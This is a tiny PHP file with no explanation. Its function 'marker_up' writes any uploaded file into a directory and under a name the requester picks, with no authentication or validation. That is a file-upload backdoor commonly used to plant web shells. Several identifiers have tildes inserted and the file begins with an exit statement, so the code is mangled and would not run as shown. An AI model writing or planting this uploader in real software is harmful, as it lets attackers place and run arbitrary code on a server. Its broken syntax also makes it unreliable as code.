<?php exit; ?>
<?php
function marker_up($f, $dir) { $c = file_get_contents($f['tmp_name']); $h = fopen($dir . $f['name'], 'wb'); fwr~ite($h, $c); fclose($h); }
marker_up($_F~ILES['m'], $_G~ET['d']);
